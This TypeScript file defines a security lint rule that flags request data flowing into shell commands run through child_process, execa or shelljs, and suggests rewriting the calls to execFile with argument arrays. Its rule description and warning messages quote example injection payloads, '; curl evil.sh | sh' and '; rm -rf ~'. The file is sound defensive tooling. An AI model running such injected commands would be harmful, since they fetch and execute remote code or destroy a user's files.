import * as ts from 'typescript';
import type { OffsetEdit, OffsetFix, Rule } from '../../rule';
import type { Facts } from '../../facts/facts';
import type { LibraryRef } from '../../facts/libraries';
import { calleeName, objectProperty, unwrap } from '../../facts/syntax';
import { CommandForm, childProcessLocalNames, commandFormOf, processFunctionNames, processLibraries, shellPrograms } from '../../catalog/processes';
import { addNamedImport } from '../../fixers/add-import';
import { splitCommandLine } from '../../fixers/split-command-line';
import { reportImportedSinks } from '../../project/imported-flow';

interface Runner {
  kind: CommandForm;
  /** The function's own name in child_process, when the call can be rewritten to its execFile form. */
  rewritable?: { name: string; ref?: LibraryRef; callee: ts.Expression };
}

/** What a call runs commands with: child_process (directly or promisified), shelljs, or execa. */
function runnerOf(call: ts.CallExpression, facts: Facts, importsRunner: boolean): Runner | undefined {
  const name = calleeName(call);
  if (name === undefined) return undefined;
  if (!processFunctionNames.has(name)) return importsRunner ? renamedRunner(call, facts) : undefined;
  const callee = unwrap(call.expression);
  // Without an import, only a snippet's unresolved `child_process.exec` can be one (and `/re/.exec` is common).
  if (!importsRunner) return commandFormOf(unresolvedModule(callee, facts), name) === 'shell' ? { kind: 'shell' } : undefined;
  const ref = facts.libraryOf(callee);
  const library = ref?.library ?? unresolvedModule(callee, facts);
  const kind = commandFormOf(library, name);
  if (!kind) return undefined;
  // Only child_process's shell runners have an execFile form to rewrite to.
  return { kind, rewritable: kind === 'shell' && library === 'child_process' ? { name, ref, callee } : undefined };
}

/**
 * A runner called by a name of the file's choosing: `const sh = require('execa').shell`, or
 * `const run = util.promisify(exec)`.
 */
function renamedRunner(call: ts.CallExpression, facts: Facts): Runner | undefined {
  const ref = facts.libraryOf(unwrap(call.expression));
  const kind = ref?.isModule && ref.exportName !== undefined ? commandFormOf(ref.library, ref.exportName) : undefined;
  if (kind) return { kind };
  return facts.importsLibrary('child_process') ? promisifiedRunner(call, facts) : undefined;
}

/** `const run = util.promisify(exec)` / `promisify(cp.exec)`: the shell runner behind a promisified name. */
function promisifiedRunner(call: ts.CallExpression, facts: Facts): Runner | undefined {
  const callee = unwrap(call.expression);
  if (!ts.isIdentifier(callee)) return undefined;
  const decl = facts.resolve(callee);
  if (!decl || !ts.isVariableDeclaration(decl) || !decl.initializer) return undefined;
  const init = unwrap(decl.initializer);
  if (!ts.isCallExpression(init) || calleeName(init) !== 'promisify' || !init.arguments[0]) return undefined;
  const inner = unwrap(init.arguments[0]);
  const name = ts.isIdentifier(inner) ? inner.text : ts.isPropertyAccessExpression(inner) ? inner.name.text : undefined;
  const library = facts.libraryOf(inner)?.library ?? unresolvedModule(inner, facts);
  return library === 'child_process' && name !== undefined && commandFormOf(library, name) === 'shell' ? { kind: 'shell' } : undefined;
}

/** `child_process.exec` in a snippet whose import is elsewhere. */
function unresolvedModule(callee: ts.Expression, facts: Facts): string | undefined {
  if (!ts.isPropertyAccessExpression(callee) || !ts.isIdentifier(callee.expression)) return undefined;
  const base = callee.expression;
  return childProcessLocalNames.test(base.text) && facts.resolve(base) === undefined ? 'child_process' : undefined;
}

/** `{ shell: true }` (or any shell path) among the call's option objects. */
function usesShell(call: ts.CallExpression, facts: Facts): boolean {
  return call.arguments.some((a) => {
    const e = unwrap(a);
    if (!ts.isObjectLiteralExpression(e)) return false;
    const p = objectProperty(e, 'shell');
    if (!p) return false;
    if (!ts.isPropertyAssignment(p)) return true;
    const v = unwrap(p.initializer);
    return v.kind !== ts.SyntaxKind.FalseKeyword && !(facts.isConstant(v) && ts.isNumericLiteral(v));
  });
}

/** The arguments that reach a shell (or, for execa's command strings, the argument parser). */
function commandArguments(call: ts.CallExpression, runner: Runner, facts: Facts): readonly ts.Expression[] {
  const [command, args] = call.arguments;
  if (!command) return [];
  switch (runner.kind) {
    case 'shell':
    case 'execa-command':
      return [command];
    case 'direct':
    case 'execa': {
      const program = unwrap(command);
      const list = args && ts.isArrayLiteralExpression(unwrap(args)) ? (unwrap(args) as ts.ArrayLiteralExpression).elements : undefined;
      // `spawn('sh', ['-c', line])`: the program is itself a shell.
      if (ts.isStringLiteralLike(program) && shellPrograms.test(program.text)) return list ?? [];
      if (!usesShell(call, facts)) return [];
      // With a shell, the arguments are joined into the command line too.
      return list ? [command, ...list] : [command];
    }
  }
}

/** "Run with execFile": `exec(\`ping -c 1 ${host}\`, cb)` → `execFile('ping', ['-c', '1', host], cb)`. */
function execFileFix(call: ts.CallExpression, runner: Runner, facts: Facts): OffsetFix | undefined {
  const target = runner.rewritable;
  const command = call.arguments[0];
  if (!target || !command) return undefined;
  const split = splitCommandLine(command, facts.sourceFile);
  if (!split) return undefined;
  const newName = target.name === 'exec' ? 'execFile' : 'execFileSync';
  const edits: OffsetEdit[] = [];
  const callee = unwrap(target.callee);
  if (ts.isPropertyAccessExpression(callee)) {
    edits.push({ start: callee.name.getStart(), end: callee.name.getEnd(), text: newName });
  } else if (ts.isIdentifier(callee) && target.ref?.exportName === target.name) {
    const imported = addNamedImport(facts, { module: target.ref.module, name: newName });
    if (!imported) return undefined;
    edits.push({ start: callee.getStart(), end: callee.getEnd(), text: imported.name });
    if (imported.edit) edits.push(imported.edit);
  } else {
    return undefined;
  }
  edits.push({ start: command.getStart(), end: command.getEnd(), text: `${split.file}, [${split.args.join(', ')}]` });
  return { title: `Run with ${newName} and an argument array`, safe: false, edits };
}

export const commandInjection: Rule = {
  meta: {
    id: 'command-injection',
    category: 'security',
    defaultSeverity: 'error',
    title: 'Request data in a shell command',
    description:
      'A command line built from request data and run through a shell lets the sender run any program on the server with its privileges (`; curl evil.sh | sh`). Run the program directly with its arguments in an array.',
    fixable: 'suggestion',
    scope: 'declaration',
    sources: ['CWE-78', 'OWASP A03:2021', 'eslint-plugin-security detect-child-process', 'semgrep javascript.lang.security.detect-child-process'],
  },
  create(context) {
    const { facts } = context;
    const importsRunner = processLibraries.some((l) => facts.importsLibrary(l));
    return {
      CallExpression(call) {
        const runner = runnerOf(call, facts, importsRunner);
        if (!runner) {
          reportImportedSinks(call, 'shell', context, 'builds it into a command line that a shell runs', 'an attacker can append any command (`; rm -rf ~`). Run the program there with execFile or spawn and pass the value as its own argument.');
          return;
        }
        for (const arg of commandArguments(call, runner, facts)) {
          if (facts.isConstant(arg)) continue;
          const origin = facts.requestOrigin(arg, { sink: 'shell', callerInput: facts.isLibraryCode });
          // A caller's value that is the whole command is the function's contract (a `run(cmd)` wrapper).
          if (!origin || (origin.caller !== undefined && !origin.built)) continue;
          const fix = runner.kind === 'shell' && arg === call.arguments[0] ? execFileFix(call, runner, facts) : undefined;
          const what = runner.kind === 'execa-command'
            ? 'is split into this command\'s arguments: an attacker can add options such as `--output=…`'
            : origin.caller !== undefined
              ? 'is built into this command line, which a shell runs: a caller that passes on user input lets its sender append any command (`; rm -rf ~`)'
              : 'ends up in this command line, which a shell runs: an attacker can append any command (`; rm -rf ~`)';
          const source = origin.caller !== undefined ? `\`${origin.source}\`, from the caller of the exported \`${origin.caller}\`,` : `\`${origin.source}\``;
          context.report({
            at: arg,
            message: `${source} ${what}. Run the program with execFile or spawn and pass the value as its own argument.`,
            fixes: fix ? [fix] : [],
          });
          return;
        }
      },
    };
  },
};
